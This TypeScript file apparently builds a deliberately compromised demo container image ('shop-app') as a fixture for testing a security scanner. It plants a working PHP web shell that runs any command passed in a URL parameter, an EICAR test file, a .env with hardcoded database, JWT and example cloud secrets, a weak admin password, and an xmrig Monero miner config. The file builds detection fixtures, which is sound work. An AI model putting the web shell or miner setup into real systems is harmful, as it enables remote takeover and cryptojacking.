import type { TarEntry } from '../tar-writer'
import { alpineBasePackages } from './alpine-packages'
import { apkDatabase } from './alpine-base'
import { apkFiles, type ApkPackage } from './apk'
import { AWS_EXAMPLE_ACCESS_KEY_ID, AWS_EXAMPLE_SECRET_ACCESS_KEY, DEMO_ALIBABA_ACCESS_KEY_ID, eicarTestFile } from './fake-secrets'
import { dir, file, opaque, whiteout, withParents } from './layer-files'

/**
 * The non-package layers of demo/shop-app: runtimes from apk, the application files (with
 * an EICAR test file, a PHP web shell and a .env), a miner config fetched by `ADD`, and the
 * clean-up layer whose whiteout deletes minimist and whose opaque directory replaces config/.
 */

const GCC = '12.2.1_git20220924-r10'
const JAKUB = 'Jakub Jirutka <jakub@jirutka.cz>'
const NCOPA = 'Natanael Copa <ncopa@alpinelinux.org>'

const RUNTIMES: ApkPackage[] = [
  { name: 'ca-certificates', version: '20230506-r0', origin: 'ca-certificates', description: 'Common CA certificates PEM files from Mozilla', url: 'https://www.mozilla.org/en-US/about/governance/policies/security-group/certs/', license: 'MPL-2.0 AND MIT', maintainer: NCOPA, size: 168093, installedSize: 679936, buildTime: 1683549045, depends: ['ca-certificates-bundle', 'so:libc.musl-x86_64.so.1', 'so:libcrypto.so.3'], files: [{ path: 'usr/sbin/update-ca-certificates', mode: 0o755 }] },
  { name: 'libgcc', version: GCC, origin: 'gcc', description: 'GNU C compiler runtime libraries', url: 'https://gcc.gnu.org', license: 'GPL-2.0-or-later AND LGPL-2.1-or-later', maintainer: NCOPA, size: 54560, installedSize: 155648, buildTime: 1681228881, depends: ['so:libc.musl-x86_64.so.1'], provides: ['so:libgcc_s.so.1=1'], files: [{ path: 'usr/lib/libgcc_s.so.1', mode: 0o755 }] },
  { name: 'libstdc++', version: GCC, origin: 'gcc', description: 'GNU C++ standard runtime library', url: 'https://gcc.gnu.org', license: 'GPL-2.0-or-later AND LGPL-2.1-or-later', maintainer: NCOPA, size: 789316, installedSize: 2564096, buildTime: 1681228881, depends: ['so:libc.musl-x86_64.so.1', 'so:libgcc_s.so.1'], provides: ['so:libstdc++.so.6=6.0.30'], files: [{ path: 'usr/lib/libstdc++.so.6', linkname: 'libstdc++.so.6.0.30' }, { path: 'usr/lib/libstdc++.so.6.0.30', mode: 0o755 }] },
  { name: 'nodejs', version: '18.18.2-r0', origin: 'nodejs', description: 'JavaScript runtime built on V8 engine - LTS version', url: 'https://nodejs.org/', license: 'MIT', maintainer: JAKUB, size: 7288721, installedSize: 37732352, buildTime: 1697116321, depends: ['ca-certificates', 'so:libc.musl-x86_64.so.1', 'so:libcrypto.so.3', 'so:libgcc_s.so.1', 'so:libssl.so.3', 'so:libstdc++.so.6', 'so:libz.so.1'], provides: ['nodejs-lts=18.18.2', 'cmd:node=18.18.2-r0'], files: [{ path: 'usr/bin/node', mode: 0o755 }] },
  { name: 'openjdk17-jre-headless', version: '17.0.9_p8-r0', origin: 'openjdk17', description: 'OpenJDK 17 Java Runtime (headless)', url: 'https://github.com/openjdk/jdk17u', license: 'GPL-2.0-with-classpath-exception', maintainer: 'Simon Frankenberger <simon-alpine@fraho.eu>', size: 43553462, installedSize: 186810368, buildTime: 1697798621, depends: ['java-common', 'java-cacerts', 'so:libc.musl-x86_64.so.1', 'so:libz.so.1'], provides: ['java-jre-headless'], files: [{ path: 'usr/lib/jvm/java-17-openjdk/bin/java', mode: 0o755 }, { path: 'usr/lib/jvm/java-17-openjdk/release', content: 'IMPLEMENTOR="Alpine Linux"\nJAVA_VERSION="17.0.9"\n' }] },
  { name: 'python3', version: '3.11.6-r0', origin: 'python3', description: 'A high-level scripting language', url: 'https://www.python.org/', license: 'PSF-2.0', maintainer: NCOPA, size: 5425040, installedSize: 20340736, buildTime: 1696365231, depends: ['so:libc.musl-x86_64.so.1', 'so:libpython3.11.so.1.0'], provides: ['python3~3.11', 'cmd:python3=3.11.6-r0', 'cmd:python3.11=3.11.6-r0'], files: [{ path: 'usr/bin/python3', linkname: 'python3.11' }, { path: 'usr/bin/python3.11', mode: 0o755 }, { path: 'usr/lib/python3.11/os.py', content: '"""OS routines for NT or Posix depending on what system we\'re on."""\n' }] },
]

/** `apk add nodejs python3 openjdk17-jre-headless`: the installed db is rewritten whole. */
export function shopRuntimeLayer(): TarEntry[] {
  const all = [...alpineBasePackages(), ...RUNTIMES].sort((a, b) => a.name.localeCompare(b.name))
  return withParents([...apkDatabase(all, ['alpine-baselayout', 'alpine-keys', 'apk-tools', 'busybox', 'ca-certificates-bundle', 'libc-utils', 'nodejs', 'openjdk17-jre-headless', 'python3']), ...apkFiles(RUNTIMES)])
}

const ENV_FILE = [
  'NODE_ENV=production',
  'DATABASE_URL=postgres://shop:Sup3rS3cretPassw0rd@db.internal:5432/shop',
  'JWT_SECRET=4f1c2e9b7a6d5c3b8e0f1a2d3c4b5a69',
  `AWS_ACCESS_KEY_ID=${AWS_EXAMPLE_ACCESS_KEY_ID}`,
  `AWS_SECRET_ACCESS_KEY=${AWS_EXAMPLE_SECRET_ACCESS_KEY}`,
  `ALIBABA_CLOUD_ACCESS_KEY_ID=${DEMO_ALIBABA_ACCESS_KEY_ID}`,
  '',
].join('\n')

/** `COPY . /app`: the application, including what should never have been copied. */
export function shopAppFilesLayer(): TarEntry[] {
  return withParents([
    file('app/server.js', "'use strict'\nconst express = require('express')\nconst app = express()\napp.use(express.static('public'))\napp.listen(3000)\n"),
    file('app/public/index.html', '<!DOCTYPE html>\n<html><head><title>Shop</title></head><body><h1>Shop</h1></body></html>\n'),
    file('app/public/shell.php', "<?php\nif (isset($_GET['cmd'])) {\n    system($_GET['cmd']);\n}\n?>\n"),
    dir('app/uploads', 0o777),
    file('app/uploads/eicar.com', eicarTestFile()),
    file('app/config/default.json', JSON.stringify({ port: 3000, logLevel: 'info' }, null, 2) + '\n'),
    file('app/config/development.json', JSON.stringify({ logLevel: 'debug', adminPassword: 'admin123' }, null, 2) + '\n'),
    file('app/.env', ENV_FILE),
  ])
}

/** An xmrig configuration, the shape miners dropped into images use. */
export function shopAddLayer(): TarEntry[] {
  const xmrig = {
    autosave: true,
    cpu: { enabled: true, 'huge-pages': true, 'max-threads-hint': 100 },
    opencl: false,
    cuda: false,
    'donate-level': 1,
    pools: [{ algo: 'rx/0', coin: 'monero', url: 'stratum+tcp://xmr.pool.example.net:3333', user: '4DemoWalletAddressNotARealMoneroWallet', pass: 'x', keepalive: true, tls: false }],
  }
  return withParents([dir('tmp', 0o1777), file('tmp/config.json', JSON.stringify(xmrig, null, 4) + '\n', 0o600)])
}

/**
 * `rm -rf node_modules/minimist config && mkdir config && …`: overlayfs records the deleted
 * package as a whiteout and the re-created directory as opaque, hiding every older child.
 */
export function shopCleanupLayer(): TarEntry[] {
  return withParents([
    dir('app/node_modules'),
    whiteout('app/node_modules/minimist'),
    dir('app/config'),
    opaque('app/config'),
    file('app/config/production.json', JSON.stringify({ port: 3000, logLevel: 'warn' }) + '\n'),
  ])
}
